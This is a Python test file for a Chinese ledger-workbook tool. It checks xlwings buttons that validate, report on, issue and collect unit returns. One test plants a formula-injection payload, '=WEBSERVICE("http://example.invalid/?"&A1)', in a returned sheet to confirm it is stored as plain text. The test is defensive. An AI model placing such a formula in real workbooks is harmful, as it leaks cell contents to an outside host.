"""The buttons, run through xlwings' own remote engine on real workbook files."""
import shutil

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import PatternFill
from remote_book import apply_actions, remote_book  # sets the licence key before xlwings is imported

from zoufang.checks.annotate import FILL_ERROR
from zoufang.checks.validate import validate
from zoufang.contract import schema
from zoufang.excel import binding
from zoufang.exchange.issue import issue
from zoufang.progress.report import build_report
from zoufang.reading.reader import read_campaign


def run(path, fn, *args):
    book = remote_book(path)
    message = fn(book, *args)
    alerts = apply_actions(path, book.json()["actions"])
    return message, alerts


@pytest.fixture
def workbook(demo, tmp_path):
    d, src = demo
    path = tmp_path / "台账.xlsx"
    shutil.copy(src, path)
    wb = openpyxl.load_workbook(path)
    visits = wb[schema.VISITS.name]
    visits["E2"].fill = PatternFill("solid", fgColor="FF00B050")  # the clerk's own colour
    visits["E2"].comment = Comment("我的标记", "clerk")
    mistake = next(f for f in validate(read_campaign(path)) if f.code == "unknown-person")
    wb[mistake.sheet][mistake.cell].comment = Comment("待核实", "clerk")  # a clerk's note on an offending cell
    wb.save(path)
    return path, mistake


def fill_of(cell):
    return cell.fill.fgColor.rgb if cell.fill and cell.fill.fill_type else None


def test_validate_writes_findings_paints_cells_and_a_second_run_restores_them(workbook):
    path, mistake = workbook
    findings = validate(read_campaign(path))
    message, alerts = run(path, binding.validate_book)
    assert alerts == [message] and "错误 5 条" in message
    wb = openpyxl.load_workbook(path)
    results = wb[schema.FINDINGS_SHEET]
    assert results.max_row == len(findings) + 1
    assert [c.value for c in results[1]] == list(schema.FINDINGS_HEADERS)
    assert results["E2"].hyperlink.location == f"'{results['D2'].value}'!{results['E2'].value}"
    errors = [f for f in findings if f.is_error]
    for f in errors:
        assert fill_of(wb[f.sheet][f.cell]) == FILL_ERROR, f
    assert wb[mistake.sheet][mistake.cell].comment.text == "待核实"  # the clerk's note stays
    fixed = next(f for f in errors if f.code == "date-out-of-period")
    assert "【校验】" in wb[fixed.sheet][fixed.cell].comment.text
    assert fill_of(wb[schema.VISITS.name]["E2"]) == "FF00B050" and wb[schema.VISITS.name]["E2"].comment.text == "我的标记"
    # the clerk fixes one date and runs it again
    wb[fixed.sheet][fixed.cell].value = "2011-10-05"
    wb.save(path)
    message, _ = run(path, binding.validate_book)
    assert "错误 4 条" in message
    wb = openpyxl.load_workbook(path)
    assert fill_of(wb[fixed.sheet][fixed.cell]) is None and wb[fixed.sheet][fixed.cell].comment is None
    assert fill_of(wb[mistake.sheet][mistake.cell]) == FILL_ERROR
    assert wb[mistake.sheet][mistake.cell].comment.text == "待核实"
    assert fill_of(wb[schema.VISITS.name]["E2"]) == "FF00B050"
    assert openpyxl.load_workbook(path)[schema.FINDINGS_SHEET].max_row == len(findings)


def test_refresh_completion_writes_the_four_report_sheets(workbook):
    path, _ = workbook
    report = build_report(read_campaign(path))
    typed = len(read_campaign(path)["visits"])
    message, _ = run(path, binding.refresh_completion)
    assert "统计截止 2012-01-15" in message
    wb = openpyxl.load_workbook(path)
    people = wb[schema.PERSON_REPORT_SHEET]
    assert people.max_row == len(report.people) + 1 and people["A1"].value == "人员编号"
    assert wb[schema.UNIT_REPORT_SHEET].max_row == len(report.units) + 1
    assert wb[schema.SUPERVISION_SHEET].max_row == len(report.overdue) + 1
    assert wb[schema.COLLECTIVE_SHEET]["A2"].value == "工作日接访覆盖"
    # the data the clerk typed is untouched and a second refresh replaces, not appends
    run(path, binding.refresh_completion)
    assert openpyxl.load_workbook(path)[schema.PERSON_REPORT_SHEET].max_row == len(report.people) + 1
    assert len(read_campaign(path)["visits"]) == typed


def test_zero_argument_wrappers_use_the_caller(workbook):
    path, _ = workbook
    book = remote_book(path)
    book.set_mock_caller()
    binding.button_refresh()
    alerts = apply_actions(path, book.json()["actions"])
    assert alerts and alerts[0].startswith("统计截止")


def test_ledgers_and_issue_go_beside_the_workbook(workbook):
    path, _ = workbook
    message, _ = run(path, binding.make_ledgers)
    assert "个人台账" in message
    assert any((path.parent / "台账").rglob("*单位台账.xlsx"))
    message, _ = run(path, binding.issue_units)
    assert "11 个单位" in message
    assert len(list((path.parent / "下发").glob("*.xlsx"))) == 11


def issued_master(clean_demo, tmp_path):
    """The clean demo as the open master, issued; its 回收/ inbox, empty."""
    _, src = clean_demo
    path = tmp_path / "台账.xlsx"
    shutil.copy(src, path)
    issued = {i.unit: i.path for i in issue(path, tmp_path / "out")}
    inbox = tmp_path / "回收"
    inbox.mkdir()
    return path, issued, inbox


def library_deletes_a_visit(issued, inbox) -> str:
    """市图书馆's return in the inbox with its first visit deleted; that visit's record number."""
    unit_file = inbox / issued["市图书馆"].name
    shutil.copy(issued["市图书馆"], unit_file)
    wb = openpyxl.load_workbook(unit_file)
    ws = wb[schema.VISITS.name]
    deleted = ws["A2"].value
    ws.delete_rows(2)
    wb.save(unit_file)
    return deleted


def test_collect_into_the_open_workbook(clean_demo, tmp_path):
    path, issued, inbox = issued_master(clean_demo, tmp_path)
    deleted = library_deletes_a_visit(issued, inbox)
    before = len(read_campaign(path)["visits"])
    message, _ = run(path, binding.collect_returns)
    assert "合并 1" in message and "删除 1 行" in message
    after = read_campaign(path)
    assert len(after["visits"]) == before - 1 and deleted not in set(after["visits"].frame["record_id"])
    assert schema.DELETED_SHEET in openpyxl.load_workbook(path).sheetnames
    message, _ = run(path, binding.collect_returns)
    assert "重复 1" in message


def test_the_button_collects_an_encrypted_return_with_the_units_password(clean_demo, tmp_path):
    from zoufang.exchange.passwords import encrypt_file, load_passwords
    _, src = clean_demo
    path = tmp_path / "台账.xlsx"
    shutil.copy(src, path)
    issued = {i.unit: i for i in issue(path, tmp_path / "out", encrypt=True)}
    inbox = tmp_path / "回收"
    inbox.mkdir()
    import msoffcrypto
    lib = issued["市图书馆"]
    plain = tmp_path / "plain.xlsx"
    with open(lib.path, "rb") as fh, open(plain, "wb") as out:
        office = msoffcrypto.OfficeFile(fh)
        office.load_key(password=load_passwords(path)["市图书馆"])
        office.decrypt(out)
    wb = openpyxl.load_workbook(plain)
    ws = wb[schema.VISITS.name]
    deleted = ws["A2"].value
    ws.delete_rows(2)
    wb.save(plain)
    encrypt_file(plain, inbox / lib.path.name, lib.password)
    message, _ = run(path, binding.collect_returns)
    assert "合并 1" in message and "删除 1 行" in message
    assert deleted not in set(read_campaign(path)["visits"].frame["record_id"])


def test_errors_become_a_message_not_a_traceback(tmp_path):
    path = tmp_path / "empty.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "Sheet1"
    wb.save(path)
    message, alerts = run(path, binding.validate_book)
    assert message.startswith("无法处理：") and alerts == [message]


def test_xlwings_lite_scripts_call_the_same_bound_functions(workbook):
    from zoufang.excel import lite
    path, _ = workbook
    book = remote_book(path)
    lite.refresh(book)
    alerts = apply_actions(path, book.json()["actions"])
    assert alerts and alerts[0].startswith("统计截止")


def test_suggestions_work_without_rapidfuzz(monkeypatch):
    """Pyodide (xlwings Lite) has no rapidfuzz wheel: importing it fails there."""
    import sys

    from zoufang.reading import roster
    monkeypatch.setitem(sys.modules, "rapidfuzz", None)
    assert roster._nearest("张为国", ["张卫国", "李四"]) == "张卫国"


def test_text_a_unit_typed_reaches_the_open_master_as_text_never_a_formula(clean_demo, tmp_path, lo_clerk):
    """Through the remote engine, whose double parses written values as Excel does; the return is an .ods."""
    path, issued, inbox = issued_master(clean_demo, tmp_path)
    formula = '=WEBSERVICE("http://example.invalid/?"&A1)'
    lo_clerk([{"src": str(issued["市图书馆"]), "dst": str(inbox / "市图书馆.ods"), "edits": [
        {"op": "set", "sheet": "走访记录", "header": "地址", "row": 2, "value": {"text": formula}},
        {"op": "set", "sheet": "走访记录", "header": "备注", "row": 2, "value": {"text": "0013900000000"}}]}])
    rid = read_campaign(issued["市图书馆"])["visits"].frame["record_id"].iloc[0]
    message, _ = run(path, binding.collect_returns)
    assert "合并 1" in message, message
    wb = openpyxl.load_workbook(path)
    ws = wb[schema.VISITS.name]
    headers = {c.value: c.column for c in ws[1]}
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, headers["记录编号"]).value == rid)
    address, remark = ws.cell(row, headers["地址"]), ws.cell(row, headers["备注"])
    assert (address.value, address.data_type) == (formula, "s")
    assert (remark.value, remark.data_type) == ("0013900000000", "s")


def test_the_brief_and_rota_buttons_write_word_documents_beside_the_workbook(workbook):
    path, _ = workbook
    message, _ = run(path, binding.make_brief)
    assert "半月简报" in message
    assert len(list((path.parent / "文字材料").glob("半月简报-第*期-*.docx"))) == 1
    message, _ = run(path, binding.make_rota)
    assert "接访安排" in message and list((path.parent / "文字材料").glob("局领导接访安排-*.docx"))


def test_what_a_button_wrote_is_in_the_audit_log_once_the_workbook_is_saved(clean_demo, tmp_path):
    """The buttons write into the open workbook; once the clerk saves it, the next command logs each cell they changed
    as a change made outside zoufang, under this computer's account (#43, docs/AUDIT.md)."""
    from zoufang.audit.trail import OUTSIDE, read_entries
    from zoufang.audit.verify import history, verify
    from zoufang.exchange.secret_key import load_secret
    from zoufang.jobs import report_job
    path, issued, inbox = issued_master(clean_demo, tmp_path)
    deleted = library_deletes_a_visit(issued, inbox)
    run(path, binding.collect_returns)  # the button's writes, saved into the file
    report_job(path, out_dir=tmp_path / "报告")
    entries = read_entries(path)
    assert [e["command"] for e in entries[-2:]] == [OUTSIDE, "report"]
    gone = [h for h in history(path, deleted) if h["decision"] == "by hand"]
    assert gone and all(h["new"] == "" for h in gone) and {h["column"] for h in gone} >= {"记录编号", "走访人"}
    assert verify(path, load_secret(path)).intact
